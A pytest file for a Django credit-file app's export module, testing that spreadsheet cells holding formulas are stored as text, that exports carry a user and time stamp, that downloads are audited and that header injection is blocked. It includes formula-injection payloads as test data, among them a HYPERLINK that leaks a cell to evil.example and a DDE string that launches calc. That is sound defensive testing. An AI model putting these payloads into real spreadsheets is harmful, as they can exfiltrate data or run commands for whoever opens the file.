"""The one way out for files (access/services/deliveries.py): neutralised cells, the stamp,
the audit event, and the checks that keep every export, print and download on this road."""

import io
import re
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from creditfile.access.models import AuditEvent
from creditfile.access.services import deliveries
from creditfile.access.services.audit import Action
from creditfile.customers.imports import Problem, build_report, build_template
from creditfile.customers.models import Industry
from creditfile.customers.testing import make_customer

SHANGHAI = ZoneInfo("Asia/Shanghai")
AT = datetime(2026, 12, 7, 9, 5, tzinfo=SHANGHAI)
MALICIOUS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
    "+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PACKAGE = Path(__file__).resolve().parents[2]


def workbook_of(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_it_stamps_with_name_username_and_shanghai_time(org):
    stamp = deliveries.stamp_for(org.alice, at=datetime(2026, 12, 7, 1, 5, tzinfo=ZoneInfo("UTC")))

    assert stamp.who == "Alice（alice）"
    assert stamp.when == "2026-12-07 09:05"
    assert "导出人：Alice（alice）" in stamp.export_line()
    assert "2026-12-07 09:05" in stamp.export_line()


def test_it_stamps_a_user_without_a_name_by_username(org):
    org.bob.full_name = ""

    assert deliveries.stamp_for(org.bob, at=AT).who == "bob"


@pytest.mark.parametrize("write_only", [True, False])
def test_it_writes_formula_like_text_as_text_shown_unchanged(write_only):
    workbook = deliveries.spreadsheet(deliveries.Stamp("王丽（wangli）", AT), write_only=write_only)
    sheet = workbook.create_sheet("数据")
    styled = WriteOnlyCell(sheet, value="=1+2") if write_only else "=1+2"
    sheet.append([*MALICIOUS, styled])
    sheet.append([Decimal("-1234.50"), -7, "普通文本", "a-b", "1+1"])

    stamp_row, malicious, ordinary = workbook_of(deliveries.workbook_bytes(workbook))["数据"].rows

    for cell, text in zip(malicious, [*MALICIOUS, "=1+2"], strict=True):
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix
    ordinary = ordinary[:5]
    assert [c.value for c in ordinary] == [-1234.5, -7, "普通文本", "a-b", "1+1"]
    assert [c.data_type for c in ordinary] == ["n", "n", "s", "s", "s"]
    assert not any(c.quotePrefix for c in ordinary)


def test_it_writes_no_formula_anywhere_in_the_file():
    workbook = deliveries.spreadsheet(None)
    workbook.active.append(MALICIOUS)

    content = deliveries.workbook_bytes(workbook)

    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.parametrize("write_only", [True, False])
def test_it_opens_every_sheet_with_the_stamp_and_prints_it_in_the_header(write_only):
    stamp = deliveries.Stamp("A&B（ab）", AT)
    workbook = deliveries.spreadsheet(stamp, write_only=write_only)
    for title in ("一", "二"):
        workbook.create_sheet(title).append(["表头"])
    if not write_only:
        workbook.remove(workbook.active)

    saved = workbook_of(deliveries.workbook_bytes(workbook))

    for sheet in saved.worksheets:
        assert sheet["A1"].value == stamp.export_line()
        assert "A&B（ab）" in sheet["A1"].value and "2026-12-07 09:05" in sheet["A1"].value
        assert sheet["A2"].value == "表头"
        assert sheet.oddHeader.center.text == stamp.export_line().replace("&", "&&")
        assert "&P" in sheet.oddFooter.center.text


def test_an_empty_stamped_sheet_still_carries_the_stamp():
    stamp = deliveries.Stamp("王丽（wangli）", AT)
    workbook = deliveries.spreadsheet(stamp, write_only=True)
    workbook.create_sheet("空")

    saved = workbook_of(deliveries.workbook_bytes(workbook))

    assert saved["空"]["A1"].value == stamp.export_line()


def test_the_import_template_is_neutralised_but_not_stamped(org):
    Industry.objects.create(code="EVIL", name='=HYPERLINK("http://evil.example","x")')

    workbook = workbook_of(build_template())

    lists = [c for row in workbook["选项"].iter_rows() for c in row if c.value]
    evil = next(c for c in lists if str(c.value).startswith("=HYPERLINK"))
    assert evil.data_type == "s" and evil.quotePrefix
    assert workbook["客户"]["A1"].value == "客户名称*"  # the header stays on row 1
    assert not workbook["客户"].oddHeader.center.text


def test_an_import_report_quoting_a_cell_is_neutralised_and_stamped(org):
    stamp = deliveries.stamp_for(org.carl, at=AT)
    problems = [Problem("客户", 2, "=cmd", "-1+1"), Problem("客户", 3, "@SUM(1)", "+1")]

    sheet = workbook_of(build_report(problems, stamp=stamp)).active

    assert sheet["A1"].value == stamp.export_line()
    for coordinate in ("C3", "D3", "C4", "D4"):
        assert sheet[coordinate].data_type == "s" and sheet[coordinate].quotePrefix
    assert sheet["B3"].value == 2 and sheet["B3"].data_type == "n"


def test_send_records_the_event_and_answers_with_the_file_uncached(org):
    customer = make_customer("华信科技有限公司", owner=org.alice)
    request = RequestFactory().get("/x", REMOTE_ADDR="10.1.2.3")
    request.user = org.alice
    stamp = deliveries.stamp_for(org.alice, at=AT)

    response = deliveries.send(
        request,
        b"%PDF-",
        filename="客户档案卡-华信.pdf",
        fallback="card.pdf",
        content_type=deliveries.PDF,
        action=Action.PRINT,
        stamp=stamp,
        customer=customer,
        detail={"kind": "distributor"},
        inline=True,
    )

    assert response.content == b"%PDF-"
    assert response["Content-Disposition"] == (
        "inline; filename=\"card.pdf\"; filename*=UTF-8''"
        "%E5%AE%A2%E6%88%B7%E6%A1%A3%E6%A1%88%E5%8D%A1-%E5%8D%8E%E4%BF%A1.pdf"
    )
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    event = AuditEvent.objects.get(action="print")  # creating the customer was a "change"
    assert (event.action, event.user_id, event.address) == ("print", org.alice.pk, "10.1.2.3")
    assert (event.customer_id, event.object_type) == (customer.pk, "customers.customer")
    assert event.outcome == "ok"
    assert event.detail == {
        "file": "客户档案卡-华信.pdf",
        "stamped_at": "2026-12-07 09:05",
        "kind": "distributor",
    }


def test_send_records_one_event_per_subject(org):
    first = make_customer("甲有限公司", owner=org.alice)
    second = make_customer("乙有限公司", owner=org.alice)
    request = RequestFactory().get("/x")
    request.user = org.carl

    deliveries.send(
        request,
        b"PK",
        filename="催款函.zip",
        fallback="letters.zip",
        content_type=deliveries.ZIP,
        action=Action.PRINT,
        subjects=[deliveries.Subject(customer=c) for c in (first, second)],
    )

    printed = AuditEvent.objects.filter(action="print")
    assert sorted(printed.values_list("customer_id", flat=True)) == sorted([first.pk, second.pk])


def test_a_file_name_cannot_break_the_header():
    header = deliveries.disposition('a"b\r\nc.pdf', 'x"y.pdf')

    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="xy.pdf"; ')


# --- Nothing leaves another way ----------------------------------------------------------------

FILE_ROUTE = re.compile(r"(\.(xlsx|pdf|docx|zip|csv)|/(pdf|docx|xlsx|zip|csv))$")
DOWNLOAD_ROUTES = {
    "customers:attachment_download",
    "customers:data_request_copy",
    "audit:trail_export",
}

# Every route that hands out a file, and the test that shows it is neutralised, stamped
# and audited. A new export, print or download route fails here until it is added, with
# its test, after going through deliveries.send.
HERE = "creditfile.access.tests.test_file_deliveries"
LETTERS = "creditfile.credit.tests.test_letters"
LETTERS_TEST = "test_a_sales_rep_may_not_generate_but_may_download"
API = "creditfile.credit.tests.test_api_workflow"
API_TEST = "test_it_generates_the_reply_letter_with_download_links"
DUNNING = "creditfile.receivables.tests.test_views_collections"
DUNNING_TEST = "test_the_dunning_run_from_proposal_to_download"
AUDIT = "creditfile.access.tests.test_audit_screen"
AUDIT_TEST = "test_it_exports_the_filtered_trail_with_formulas_neutralised"
PERSONAL = "creditfile.customers.tests.test_personal_data"
PERSONAL_TEST = "test_it_hands_over_a_copy_of_the_persons_data_and_audits_it"
HANDOVER = "creditfile.core.tests.test_handover_views"
HANDOVER_TEST = "test_it_prints_a_letter_naming_the_successor_and_their_phone"
HANDOVER_ZIP_TEST = "test_it_bundles_every_letter_as_pdf_and_word"
FILE_ROUTES = {
    "customers:export": (HERE, "test_customer_list_export"),
    "customers:import_template": (HERE, "test_templates"),
    "customers:import_report": (HERE, "test_import_reports"),
    "customers:card_pdf": (HERE, "test_customer_card"),
    "customers:attachment_download": (HERE, "test_attachment_download"),
    "credit:letter_pdf": (LETTERS, LETTERS_TEST),
    "credit:letter_docx": (LETTERS, LETTERS_TEST),
    "credit:rating_import_template": (HERE, "test_templates"),
    "credit:rating_import_report": (HERE, "test_import_reports"),
    "credit:payment_import_template": (HERE, "test_templates"),
    "credit:payment_import_report": (HERE, "test_import_reports"),
    "receivables:import_job_report": (HERE, "test_invoice_import_job_report"),
    "receivables:dunning_letter_pdf": (DUNNING, DUNNING_TEST),
    "receivables:dunning_letter_docx": (DUNNING, DUNNING_TEST),
    "receivables:run_letters": (DUNNING, DUNNING_TEST),
    "receivables:aging_export": (HERE, "test_aging_export"),
    "api-1:letter_pdf": (API, API_TEST),
    "api-1:letter_docx": (API, API_TEST),
    "customers:data_request_copy": (PERSONAL, PERSONAL_TEST),
    "audit:trail_export": (AUDIT, AUDIT_TEST),
    "handover:letter_pdf": (HANDOVER, HANDOVER_TEST),
    "handover:letter_docx": (HANDOVER, HANDOVER_TEST),
    "handover:letters_zip": (HANDOVER, HANDOVER_ZIP_TEST),
}


def _routes(patterns, prefix="", namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = pattern.namespace or ""
            joined = f"{namespace}:{inner}" if namespace and inner else namespace or inner
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern), joined)
        elif isinstance(pattern, URLPattern):
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield prefix + str(pattern.pattern), name


def test_every_route_that_hands_out_a_file_is_listed_with_its_test():
    found = {
        name
        for route, name in _routes(get_resolver().url_patterns)
        if FILE_ROUTE.search(route) or name in DOWNLOAD_ROUTES
    }

    assert found == set(FILE_ROUTES)
    import importlib

    for module, test in FILE_ROUTES.values():
        assert hasattr(importlib.import_module(module), test), (module, test)


# Only deliveries.py may make a workbook or a file response; PDFs need a stamp (core/pdf.py).
FORBIDDEN = {
    "FileResponse(": "a file response (use deliveries.send)",
    "Content-Disposition": "a file response (use deliveries.send)",
    "import Workbook": "a workbook (use deliveries.spreadsheet)",
    "Workbook(": "a workbook (use deliveries.spreadsheet)",
}
ALLOWED = {
    PACKAGE / "access" / "services" / "deliveries.py",
    PACKAGE / "customers" / "imports" / "testing.py",  # builds files to import, in tests
}


def test_no_module_makes_a_file_response_or_a_workbook_by_itself():
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path in ALLOWED or "tests" in path.parts or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        offenders += [
            f"{path.relative_to(PACKAGE)}: {why}"
            for text, why in FORBIDDEN.items()
            if text in source
        ]

    assert offenders == []
